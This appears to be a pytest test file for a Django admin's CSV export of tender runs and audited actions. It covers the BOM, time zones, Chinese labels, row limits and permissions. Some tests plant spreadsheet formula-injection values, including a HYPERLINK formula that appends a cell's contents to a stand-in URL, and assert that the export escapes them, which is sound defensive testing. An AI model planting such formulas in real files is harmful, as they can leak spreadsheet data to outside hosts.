"""CSV exports: the filtered list and an audited action's runs; streamed, UTF-8 with a BOM,
times in TENDEROPS_TIME_ZONE, bounded, safe to open in a spreadsheet."""

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from django.db import connection
from django.db.models.functions import Now
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext

from runs.admin import export
from runs.maintenance import fail_stuck_runs
from runs.models import Actor, MaintenanceAction, TenderProject, TenderRun
from tests.console import EXPORT, LIST, staff_client, started_at

MIN = timedelta(minutes=1)


@pytest.fixture
def viewer(db):
    return staff_client("viewer", "view_tenderrun", "view_maintenanceaction")


def read_csv(response) -> list[list[str]]:
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="')
    raw = b"".join(response.streaming_content)
    assert raw.startswith("\ufeff".encode())  # Excel reads UTF-8 only with its BOM
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def test_the_filtered_list_exports_with_chinese_intact(viewer, make_run, settings):
    settings.TIME_ZONE = "Asia/Shanghai"
    wanted = started_at(
        make_run(status="failed", message="任务失败", error='=HYPERLINK("x")', progress=0.5),
        datetime(2026, 3, 1, 16, 0, 1, tzinfo=UTC),
    )
    make_run(status="success", started_ago=10 * MIN)
    rows = read_csv(viewer.get(f"{EXPORT}?status=failed"))
    header, body = rows[0], rows[1:]
    assert header[6] == "started at (Asia/Shanghai (UTC+08:00))"
    assert len(body) == 1
    assert body[0][:8] == [
        wanted.pk,
        wanted.project_id,
        "市政道路改造工程",
        "extract_project_info",
        "failed",
        "50",
        "2026-03-02 00:00:01",
        "",
    ]
    assert body[0][9] == "任务失败"
    assert body[0][10] == '\'=HYPERLINK("x")'  # never run as a formula


def test_the_export_speaks_the_pages_language(viewer, make_run):
    make_run(status="failed")
    rows = read_csv(viewer.get(EXPORT, HTTP_ACCEPT_LANGUAGE="zh-hans"))
    assert rows[0][:5] == ["任务", "项目 ID", "项目", "类型", "状态"]
    assert rows[1][4] == "失败"


def test_search_and_ordering_apply_and_nothing_is_counted_whole(viewer, make_run):
    runs = [make_run(status="success", started_ago=(n + 1) * MIN) for n in range(5)]
    with CaptureQueriesContext(connection) as captured:
        rows = read_csv(viewer.get(f"{EXPORT}?status=success&o=-7"))
    assert [row[0] for row in rows[1:]] == [run.pk for run in runs]  # newest first, as listed
    counts = [q["sql"] for q in captured if "COUNT(" in q["sql"].upper()]
    assert counts and all(f"LIMIT {export.MAX_EXPORT_ROWS + 1}" in sql for sql in counts)


def test_above_the_maximum_the_operator_gets_the_list_back_with_a_message(
    viewer, make_run, monkeypatch
):
    monkeypatch.setattr(export, "MAX_EXPORT_ROWS", 3)
    for _ in range(4):
        make_run(status="failed")
    response = viewer.get(f"{EXPORT}?status=failed")
    assert response.status_code == 302 and response["Location"] == f"{LIST}?status=failed"
    page = viewer.get(response["Location"]).content.decode()
    assert "More than 3 runs match: narrow the filter" in page
    assert len(read_csv(viewer.get(f"{EXPORT}?status=failed&kind=none"))) == 1  # header only


def test_an_audited_actions_runs_export(viewer, make_run):
    runs = [make_run(started_ago=(20 + n) * MIN, message="提取中...") for n in range(3)]
    fail_stuck_runs(actor=Actor.SCHEDULE)
    action = MaintenanceAction.objects.get()
    page = viewer.get(f"/admin/runs/maintenanceaction/{action.pk}/change/").content.decode()
    assert f"/admin/runs/maintenanceaction/{action.pk}/export/" in page
    assert f"{LIST}?audit={action.pk}" in page
    rows = read_csv(viewer.get(f"/admin/runs/maintenanceaction/{action.pk}/export/"))
    assert sorted(row[0] for row in rows[1:]) == sorted(run.pk for run in runs)
    assert {tuple(row[2:3] + row[4:]) for row in rows[1:]} == {
        ("extract_project_info", "running", "提取中...", "", "failed")
    }
    assert all(row[3].startswith("silent for 2") for row in rows[1:])  # 20 to 22 minutes
    listed = viewer.get(f"{LIST}?audit={action.pk}").content.decode()
    assert all(run.pk in listed for run in runs)
    TenderRun.objects.filter(pk=runs[0].pk).delete()  # the backend deleted its project
    rows = read_csv(viewer.get(f"/admin/runs/maintenanceaction/{action.pk}/export/"))
    assert sorted(row[-1] for row in rows[1:]) == ["(no longer in the table)", "failed", "failed"]


def test_an_audit_export_in_chinese_writes_its_durations_as_they_read(viewer, make_run):
    """The pages join a unit's ideographs (never "小 / 时" at a line's end); a CSV cell must
    not carry the joiner: a spreadsheet's search for "小时" missed it (the reviewer)."""
    make_run(started_ago=80 * MIN)
    fail_stuck_runs(actor=Actor.SCHEDULE)
    action = MaintenanceAction.objects.get()
    url = f"/admin/runs/maintenanceaction/{action.pk}/export/"
    rows = read_csv(viewer.get(url, HTTP_ACCEPT_LANGUAGE="zh-hans"))
    assert "1\xa0小时" in rows[1][3] and "\u2060" not in rows[1][3], rows[1][3]


def test_ids_are_never_run_as_formulas_either(viewer):
    """The backend's ids are text it chose: a spreadsheet must not run them as formulas."""
    project = TenderProject.objects.create(id='=HYPERLINK("http://x/?"&A1)', kb_id="kb", name="p")
    run = TenderRun.objects.create(
        id="@SUM(1)", project=project, run_type="review", status="running", kind="review"
    )
    TenderRun.objects.filter(pk=run.pk).update(started_at=Now() - 30 * MIN)
    listed = read_csv(viewer.get(f"{EXPORT}?status=running"))[1]
    assert listed[:2] == ["'@SUM(1)", '\'=HYPERLINK("http://x/?"&A1)']
    fail_stuck_runs(actor=Actor.SCHEDULE)
    action = MaintenanceAction.objects.get()
    audited = read_csv(viewer.get(f"/admin/runs/maintenanceaction/{action.pk}/export/"))[1]
    assert audited[:2] == ["'@SUM(1)", '\'=HYPERLINK("http://x/?"&A1)']


def test_export_needs_the_view_permission(make_run):
    make_run()
    nobody = staff_client("nobody")
    assert nobody.get(EXPORT).status_code == 403
